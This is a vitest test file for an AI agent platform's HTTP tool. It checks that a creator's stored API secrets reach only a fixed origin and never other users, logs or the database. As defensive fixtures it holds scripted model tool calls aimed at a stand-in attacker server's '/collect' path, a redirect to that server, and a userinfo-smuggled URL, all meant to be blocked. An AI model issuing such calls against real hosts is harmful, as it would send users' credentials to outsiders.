import { once } from "node:events";
import { createServer, type IncomingHttpHeaders } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { useRunsPlatform } from "../../support/runs-platform.ts";
import { inTurn, toolResults } from "../../support/scripted-llm.ts";

const platform = useRunsPlatform();
const call: typeof platform.gantry.call = (...args) => platform.gantry.call(...args);

/** Two servers that echo every header: the creator's service and a foreign one. */
const seen: { at: string; headers: IncomingHttpHeaders }[] = [];
const service = echo("service");
const elsewhere = echo("elsewhere");
let origin: string;
let attacker: string;
beforeAll(async () => {
  [origin, attacker] = (await Promise.all([service.listen(), elsewhere.listen()])) as [string, string];
});
afterAll(() => Promise.all([service.close(), elsewhere.close()]));
beforeEach(() => seen.splice(0));

function echo(at: string) {
  const server = createServer((request, response) => {
    seen.push({ at, headers: request.headers });
    const { pathname } = new URL(request.url ?? "/", "http://any");
    if (pathname === "/moved") response.writeHead(302, { location: `${attacker}/collect` });
    // A result has 64,000 bytes of the answer, so this one is cut within the header.
    if (pathname === "/long") response.write("x".repeat(63_985) + request.headers.authorization);
    response.end(JSON.stringify(request.headers));
  });
  return {
    async listen() {
      server.listen(0, "127.0.0.1");
      await once(server, "listening");
      return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    },
    async close() {
      server.close();
    },
  };
}

const token = "ALICE-API-TOKEN-123";
const bound = (more: object) => [{ type: "tool", id: "http_request", ...more }];
const withToken = { arguments: { headers: { authorization: `Bearer ${token}` } } };
const withSecret = { arguments: { headers: { authorization: "Bearer {{secret:crm}}" } } };

async function create(tools: unknown, key: string) {
  const json = { name: "Caller", goal: "g", tools, model: "admin/llm", visibility: "public" };
  return call("POST", "/v1/agents", { key, json });
}

/** Like an agent published before fixed headers needed an origin. */
async function publishedBefore(tools: unknown, key: string): Promise<string> {
  const agent = await platform.makeAgent({ tools: ["http_request"], visibility: "public" }, key);
  await platform.gantry.database.sql`
    update agent_revisions set snapshot = jsonb_set(snapshot::jsonb, '{tools}', ${JSON.stringify(tools)}::text::jsonb)::json
    where agent_id = ${agent}`;
  return agent;
}

/** The tool result, and everything the caller can read. */
async function requesting(agent: string, url: string, key: string) {
  platform.llm.script = inTurn({ calls: [{ name: "http_request", args: { method: "GET", url } }] }, { text: "done" });
  const { body } = await platform.run(agent, {}, { key });
  expect(body.status, JSON.stringify(body)).toBe("done");
  const [result = ""] = toolResults(platform.llm.requests.at(-1));
  return { result, shown: JSON.stringify([body, await platform.events(body.id, key), platform.llm.requests]) };
}

describe("saving and publishing", () => {
  test("fixed headers or a fixed body without an origin cause a warning and cannot be published", async () => {
    const { key } = await platform.newUser();
    for (const fixed of [{ headers: { accept: "text/plain" } }, { body: "password=1" }]) {
      const made = await create(bound({ arguments: fixed }), key);
      expect(made.status, made.text).toBe(201);
      expect(made.body.warnings).toEqual([{ field: "tools", message: expect.stringContaining("Set `origin`") }]);
      const refused = await call("POST", `/v1/agents/${made.body.id}/publish`, { key, json: {} });
      expect([refused.status, refused.body.error.type], refused.text).toEqual([400, "invalid_input"]);
      expect(refused.text).toContain("Set `origin`");

      for (const more of [{ origin }, { arguments: { ...fixed, url: `${origin}/a` } }]) {
        const tools = bound({ arguments: fixed, ...more });
        expect((await call("PATCH", `/v1/agents/${made.body.id}`, { key, json: { tools } })).status).toBe(200);
        const published = await call("POST", `/v1/agents/${made.body.id}/publish`, { key, json: {} });
        expect([published.status, published.body.warnings], published.text).toEqual([200, []]);
      }
    }
  });

  test("a plain-text credential causes a warning; a stored secret does not; an unknown secret is refused", async () => {
    const { key } = await platform.newUser();
    const literal = await create(bound({ origin, ...withToken }), key);
    expect(literal.body.warnings).toEqual([{ field: "tools", message: expect.stringContaining("{{secret:name}}") }]);
    expect(literal.text).not.toContain(token);

    const missing = await create(bound({ origin, ...withSecret }), key);
    expect(missing.status, missing.text).toBe(400);
    expect(missing.text).toContain("PUT /api/v2/secrets/crm");
    await call("PUT", "/api/v2/secrets/crm", { key, json: { value: token } });
    const named = await create(bound({ origin, ...withSecret }), key);
    expect([named.status, named.body.warnings], named.text).toEqual([201, []]);
    await call("DELETE", "/api/v2/secrets/crm", { key });
    const { warnings } = (await call("GET", `/v1/agents/${named.body.id}`, { key })).body;
    expect(warnings).toEqual([{ field: "tools", message: expect.stringContaining("Secret crm is not stored") }]);
  });

  test.each([
    ["an origin with a path", "http_request", { origin: "https://api.example.com/v1" }],
    ["an origin that is not a web address", "http_request", { origin: "ftp://api.example.com" }],
    ["an origin of another tool", "run_javascript", { origin: "https://api.example.com" }],
    [
      "a fixed url elsewhere",
      "http_request",
      { origin: "https://a.example", arguments: { url: "https://b.example/x" } },
    ],
    ["a reference without a name", "http_request", { arguments: { headers: { a: "{{secret:}}" } } }],
  ])("%s is refused", async (_, id, more) => {
    const { key } = await platform.newUser();
    const refused = await create([{ type: "tool", id, ...more }], key);
    expect(refused.status, refused.text).toBe(400);
  });
});

describe("a call", () => {
  test("goes only to the binding's origin with the creator's secret, also after redirects", async () => {
    const [creator, caller] = [await platform.newUser(), await platform.newUser()];
    await call("PUT", "/api/v2/secrets/crm", { key: creator.key, json: { value: token } });
    await call("PUT", "/api/v2/secrets/crm", { key: caller.key, json: { value: "another-secret-value" } });
    const tools = bound({ origin, ...withSecret });
    const agent = await platform.makeAgent({ tools, visibility: "public" }, creator.key);
    for (const { key } of [caller, creator]) {
      for (const path of ["/customers", "/moved", "/long"]) {
        const { result, shown } = await requesting(agent, origin + path, key);
        expect(result).toMatch(/^HTTP (200|302)/);
        expect(seen.splice(0)).toMatchObject([{ at: "service", headers: { authorization: `Bearer ${token}` } }]);
        expect(shown).not.toContain("ALICE");
      }
      const host = new URL(origin).host;
      for (const url of [`${attacker}/collect`, `${attacker}/?${origin}`, `http://${host}@127.0.0.1:9/`, "nowhere"]) {
        const { result } = await requesting(agent, url, key);
        expect(result).toContain(`only calls addresses at ${origin}`);
      }
    }
    expect(seen).toEqual([]);
    expect(platform.llm.requests.at(-1)?.tools?.[0]).toMatchObject({
      function: { description: expect.stringContaining(origin) },
    });
    expect(platform.gantry.logged()).not.toContain(token);
    const rows = await platform.gantry.database.sql`
      select snapshot::text from agent_revisions where agent_id = ${agent}`;
    expect(JSON.stringify(rows)).not.toContain(token);

    await call("DELETE", "/api/v2/secrets/crm", { key: creator.key });
    expect((await requesting(agent, origin, caller.key)).shown).not.toMatch(/\bcrm\b/);
    expect((await requesting(agent, origin, creator.key)).result).toContain("The secret crm is not stored");
  });

  test("of an agent without an origin is made only for its creator", async () => {
    const [creator, caller] = [await platform.newUser(), await platform.newUser()];
    const agent = await publishedBefore(bound(withToken), creator.key);
    const refused = await requesting(agent, `${attacker}/collect`, caller.key);
    expect(refused.result).toContain("not sent for other users");
    expect(refused.shown).not.toContain(token);
    expect(seen).toEqual([]);
    await requesting(agent, `${origin}/mine`, creator.key);
    expect(seen).toMatchObject([{ at: "service", headers: { authorization: `Bearer ${token}` } }]);
  });

  test("never sends a stored secret without an origin, or one that the model names", async () => {
    const creator = await platform.newUser();
    await call("PUT", "/api/v2/secrets/crm", { key: creator.key, json: { value: token } });
    const unbound = await publishedBefore(bound(withSecret), creator.key);
    expect((await requesting(unbound, attacker, creator.key)).result).toContain("only sent to a fixed origin");
    const free = await platform.makeAgent({ tools: ["http_request"] }, creator.key);
    const args = { method: "GET", url: origin, headers: { authorization: "{{secret:crm}}" } };
    platform.llm.script = inTurn({ calls: [{ name: "http_request", args }] }, { text: "done" });
    await platform.run(free, {}, { key: creator.key });
    expect(seen).toMatchObject([{ headers: { authorization: "{{secret:crm}}" } }]);
  });

  test("whose answer repeats a fixed header does not show it to another user", async () => {
    const [creator, caller] = [await platform.newUser(), await platform.newUser()];
    const agent = await platform.makeAgent(
      { tools: bound({ origin, ...withToken }), visibility: "public" },
      creator.key,
    );
    expect((await requesting(agent, origin, caller.key)).shown).not.toContain(token);
    expect((await call("GET", `/v1/agents/${agent}`, { key: caller.key })).text).not.toContain(token);
  });

  test("with an invalid header names it only to its creator", async () => {
    const [creator, caller] = [await platform.newUser(), await platform.newUser()];
    // Like one saved before such headers were refused.
    const tools = bound({ origin, arguments: { headers: { "bad FIXEDSECRETTOKEN999": "1" } } });
    const agent = await publishedBefore(tools, creator.key);
    const theirs = await requesting(agent, origin, caller.key);
    expect(theirs.result).toContain("cannot be sent");
    expect(theirs.shown).not.toContain("FIXEDSECRET");
    expect((await requesting(agent, origin, creator.key)).result).toContain("bad FIXEDSECRETTOKEN999");
  });
});
